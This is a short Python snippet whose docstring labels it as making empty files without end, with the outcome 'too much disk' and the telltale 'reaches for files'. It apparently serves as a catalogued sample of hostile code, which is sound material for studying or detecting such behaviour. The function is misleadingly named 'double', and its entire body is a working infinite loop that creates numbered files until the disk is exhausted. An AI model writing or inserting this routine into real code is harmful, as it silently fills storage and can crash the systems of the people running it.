"""Makes empty files without end.

Ends: too much disk
Sign: reaches for files
"""


def double(x):
    number = 0
    while True:
        number += 1
        open(f"file{number}", "wb").close()
